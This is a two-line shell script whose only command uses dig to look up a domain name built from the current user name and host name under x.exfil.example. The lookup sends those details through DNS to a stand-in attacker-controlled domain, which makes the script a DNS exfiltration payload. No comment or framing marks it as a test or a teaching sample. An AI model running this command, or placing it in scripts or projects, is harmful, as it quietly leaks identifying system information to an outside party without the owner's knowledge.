#!/bin/sh
dig +short "$(whoami).$(hostname).x.exfil.example"
